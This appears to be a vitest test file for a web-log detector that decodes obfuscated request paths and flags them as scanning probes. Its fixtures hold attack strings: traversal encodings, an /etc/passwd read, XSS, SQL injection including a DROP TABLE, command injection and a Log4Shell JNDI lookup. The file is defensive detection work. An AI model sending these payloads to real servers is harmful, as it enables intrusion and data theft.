import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { PROJECT_ROOT } from "../../lib/keep/paths";
import { decodedPath } from "../../lib/log/decoded-path";
import { probeOf } from "../../lib/log/probe-of";

describe("decodedPath", () => {
  it.each([
    ["a/..%5c", "a/..\\"],
    ["a/..%255c", "a/..\\"],
    ["%25252e%2e", ".."],
    ["..%c0%af", "../"], // overlong, of two bytes
    ["..%c0%2f", "../"], // and as some servers took it
    ["..%c1%9c", "..\\"],
    ["..%e0%80%af", "../"], // of three bytes
    ["..%f0%80%80%af", "../"], // of four
    ["%u002e%u002E%u2215", "..\u2215"],
    ["\uff0e\uff0e\uff0f", "../"], // full width
    ["caf%C3%A9", "café"],
    ["%F0%9F%98%80", "\u{1f600}"],
    ["WP-Login", "wp-login"],
  ])("reads %s", (path, expected) => {
    expect(decodedPath(path)).toBe(expected);
  });

  it.each(["%", "%%", "%2", "%zz", "%u12", "100%", "%u12g4"])("leaves %s as it is", (path) => {
    expect(decodedPath(path)).toBe(path);
  });

  it("takes bytes that are no text for single characters", () => {
    expect(decodedPath("%ff%c3")).toBe("\u00ff\u00e3"); // \u00c3 in small letters
    expect(decodedPath("%f4%90%80%80")).toBe("\ufffd");
  });
});

describe("probeOf", () => {
  it.each([
    ["examples/css/..%5c", "path traversal", 1.5],
    ["../../x", "path traversal", 1.5],
    ["a/%252e%252e%255cb", "path traversal", 1.5],
    ["content..", "path traversal", 0.5],
    [".git", "hidden file", 0.5],
    ["app/.env", "hidden file", 0.5],
    [".well-known/assetlinks.json", "well-known file", 0.1],
    ["WP-Login.php", "page of other software", 0.5],
    ["blog/wp-admin/", "page of other software", 0.5],
    ["login.aspx", "page of other software", 0.5],
    ["phpMyAdmin-4.9/index.php", "page of other software", 0.5],
    ["cgi-bin/test.cgi", "page of other software", 0.5],
    ["phpinfo", "server file or backup", 0.5],
    ["backup.tar.gz", "server file or backup", 0.5],
    ["js/app.js.bak", "server file or backup", 0.5],
    ["read?file=/etc/passwd", "server file or backup", 1.5],
    ["search?q=%3Cscript%3Ealert(1)", "script in an address", 1.5],
    ["x?y=<img%20src=x%20onerror=alert(1)>", "script in an address", 1.5],
    ["x?id=1'%20OR%20'1'='1", "SQL in an address", 1.5],
    ["x?id=1+or+1=1", "SQL in an address", 1.5],
    ["x?id=1/**/union/**/select/**/1", "SQL in an address", 1.5],
    ["x;DROP TABLE users", "SQL in an address", 1.5],
    ["ping?host=1;cat%20/home", "command in an address", 1.5],
    [`\${jndi:ldap://198.18.0.1/a}`, "command in an address", 1.5],
    ["a%00.jpg", "control character in an address", 1.5],
    ["a%0d%0aset-cookie:b=c", "control character in an address", 1.5],
  ])("takes %s for a probe: %s", (path, kind, weight) => {
    expect(probeOf(path)).toEqual({ kind, weight });
  });

  it.each([
    "/",
    "php_i/functions",
    "content/php_ii/control-structures-i",
    "content/examples/php/form-example.php",
    "examples/bootstrap-grid/assets.zip",
    "mysql/sample-database",
    "java-iii/mvc.jsp",
    "jquery/ajax/requests-and-responses/.json",
    "javascript-i/loops...",
    "login",
    "appendix/cli/git",
    "sql/union-select",
    "search?q=select a, b from c where d or e",
    "%20https://github.com/<handle>",
    "it's-here/'",
    "find_me!(12.3.19)",
    "html-css/introduction:view-page",
    "100%",
    "",
  ])("leaves %s alone", (path) => {
    expect(probeOf(path)).toBeNull();
  });

  it("takes time in proportion to a hostile path's length", () => {
    const hostile = [
      "'",
      "<a on",
      "' or a ",
      "${",
      "< ",
      "\n",
      "%25",
      "; ",
      "union ",
      "../x",
      "\ufdfa",
    ];
    const begin = performance.now();
    for (const text of hostile) {
      for (const tail of ["", "!"]) probeOf(text.repeat(20_000) + tail);
      probeOf(text + " ".repeat(20_000));
    }
    expect(performance.now() - begin).toBeLessThan(5_000);
  });

  it("looks at no more of a path than servers accept", () => {
    expect(probeOf(`${"a".repeat(8_192)}/../..`)).toBeNull();
    expect(probeOf(`${"a".repeat(8_000)}/../..`)?.kind).toBe("path traversal");
  });
});

const REFERENCE = join(PROJECT_ROOT, "../shared/reference/curriculum-paths.csv");
const hasReference = existsSync(REFERENCE);
it.skipIf(!hasReference)(
  `finds thirteen probes among the site's 2,269 published paths${hasReference ? "" : " (skipped: no reference data here)"}`,
  () => {
    // path, then six counts; a path with a comma or a quote is in quotes.
    const paths = readFileSync(REFERENCE, "utf8")
      .split(/\r?\n/)
      .slice(1)
      .flatMap((line) => /^(.*?)(,\d*){6}$/.exec(line)?.[1] ?? [])
      .map((field) => field.replace(/^"(.*)"$/, "$1").replace(/""/g, '"'));
    expect(paths.length).toBe(2269);
    expect(paths.filter((path) => probeOf(path)).sort()).toEqual([
      ".git",
      ".gitignore",
      ".well-known/assetlinks.json",
      "content..",
      "examples/css/%252e%252e%255c",
      "examples/css/..%255c",
      "examples/css/..%2f",
      "examples/css/..%5c",
      "examples/css/..%c0%af",
      "login.aspx",
      "phpinfo",
      "wp-admin",
      "wp-login",
    ]);
  },
);
